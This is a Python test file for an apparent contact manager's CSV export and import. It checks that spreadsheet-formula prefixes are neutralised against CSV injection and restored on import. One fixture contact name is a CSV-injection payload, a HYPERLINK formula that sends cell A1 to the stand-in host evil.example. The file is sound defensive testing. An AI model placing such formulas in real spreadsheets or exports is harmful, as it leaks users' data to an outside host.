"""CSV export neutralises spreadsheet formulas in every cell, and NetCare's import takes
back exactly what the export added (issue 12, OWASP "CSV injection")."""

from __future__ import annotations

import csv
import io
from datetime import datetime

from hypothesis import example, given, settings
from hypothesis import strategies as st

from netcare_desktop.core.record import ContactRecord, Email, Phone, Url
from netcare_desktop.interop import importer
from netcare_desktop.interop.csvformats import cell_text as _cell
from netcare_desktop.interop.csvformats import (
    neutralise,
    read_csv,
    unneutralise,
    write_google_csv,
)
from netcare_desktop.interop.exporter import export
from netcare_desktop.store import contacts

NOW = datetime(2026, 11, 25, 12)
DANGEROUS = ("=", "+", "-", "@", "\t", "\r")


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text)) for c in row]


def test_no_exported_cell_starts_a_formula_and_the_values_come_back(store, tmp_path):
    contacts.create_contact(
        contacts.ContactInput(
            given_name='=HYPERLINK("http://evil.example/?"&A1,"Click")',
            family_name="+SUM(1,2)",
            organization="-2+3",
            title="@cmd",
            department="'=already quoted",
            notes="\tTabbed note",
            emails=[("=label", "dana@example.org")],
            phones=[("@work", "+44 20 7946 0000")],
            urls=[("-x", "https://dana.example/")],
            groups=["=SUM(A1:A9)"],
        ),
        NOW,
    )
    out = io.StringIO()
    export("csv", out, NOW)
    cells = _cells(out.getvalue())
    assert all(not c.startswith(DANGEROUS) for c in cells), cells
    assert "'+44 20 7946 0000" in cells  # what a spreadsheet shows, as text
    assert "''=already quoted" in cells
    path = tmp_path / "export.csv"
    path.write_bytes(out.getvalue().encode("utf-8"))
    report, (rec,) = importer.read_file(path)
    assert report.format == "csv-google"
    assert rec.given_name == '=HYPERLINK("http://evil.example/?"&A1,"Click")'
    assert (rec.family_name, rec.organization, rec.title) == ("+SUM(1,2)", "-2+3", "@cmd")
    assert rec.department == "'=already quoted"
    assert rec.notes == "Tabbed note"  # the import strips white space around a cell
    assert [(e.value, e.label) for e in rec.emails] == [("dana@example.org", "=label")]
    assert [(p.value, p.label) for p in rec.phones] == [("+44 20 7946 0000", "@work")]
    assert [(u.value, u.label) for u in rec.urls] == [("https://dana.example/", "-x")]
    assert "=SUM(A1:A9)" in rec.groups
    plan = importer.plan_import([(report, [rec])], region="GB")
    assert plan.counts()["unchanged"] == 1  # the same contact, nothing to change


def test_only_what_the_export_added_is_taken_away_and_only_in_its_format():
    for value in ["=1", "'=1", "''=1", "'", "'a", "a'", "+", "-", "'-", "x=1", "--01-02"]:
        assert unneutralise(neutralise(value)) == value
    assert neutralise("'a") == "'a" and unneutralise("'a") == "'a"
    # A LinkedIn file is not NetCare's export: its cells are read as they are.
    text = "First Name,Last Name,URL,Email Address,Company,Position,Connected On\r\n"
    text += "'=Ann,Lee,,ann@example.org,'+Co,,\r\n"
    (rec,) = read_csv(text.encode(), "Connections.csv").records
    assert (rec.given_name, rec.organization) == ("'=Ann", "'+Co")


PREFIX = st.sampled_from(["", "'", "''", *DANGEROUS, *("'" + d for d in DANGEROUS), "' ="])
CHARS = st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00")  # NUL: dropped
TEXT = st.builds(lambda p, t: p + t, PREFIX, st.text(CHARS, max_size=8))


@settings(max_examples=200, deadline=None)
# Found by this test in CI: a label that is a lone asterisk read back as Google's primary mark.
@example(given_name="", title="", notes="", label="*", phone="", group="")
@example(given_name="", title="", notes="", label="*ish", phone="", group="")
@given(
    given_name=TEXT,
    title=TEXT,
    notes=TEXT,
    label=TEXT,
    phone=TEXT,
    group=TEXT,
)
def test_any_text_in_any_column_comes_back_and_never_starts_a_formula(
    given_name, title, notes, label, phone, group
):
    rec = ContactRecord(
        given_name="n" + given_name,
        family_name=given_name,
        title=title,
        notes=notes,
        emails=[Email("a@example.org", label)],
        phones=[Phone("1" + phone, label)] + ([Phone(phone, label)] if _cell(phone) else []),
        urls=[Url("https://u.example/", label)],
        groups=[g for g in [_cell(group)] if g and " ::: " not in g and ":::" not in g],
    )
    text = write_google_csv([rec])
    assert all(not c.startswith(DANGEROUS) or c == "--01-02" for c in _cells(text))
    result = read_csv(text.encode("utf-8"), "x.csv")
    (back,) = result.records
    assert back.family_name == _cell(given_name)
    assert (back.title, back.notes) == (_cell(title), _cell(notes))
    assert [p.value for p in back.phones] == [_cell(p.value) for p in rec.phones]
    assert {e.label for e in back.emails} <= {_cell(label), _cell(label).removeprefix("* ")}


def test_a_preferred_value_without_a_label_and_a_label_of_asterisks_stay_apart():
    """Google marks a primary value with "* " before its label; "*" alone is a label."""
    rec = ContactRecord(
        given_name="Ann",
        emails=[Email("a@example.org", "", True), Email("b@example.org", "*")],
    )
    (back,) = read_csv(write_google_csv([rec]).encode(), "x.csv").records
    assert [(e.label, e.preferred) for e in back.emails] == [("", True), ("*", False)]
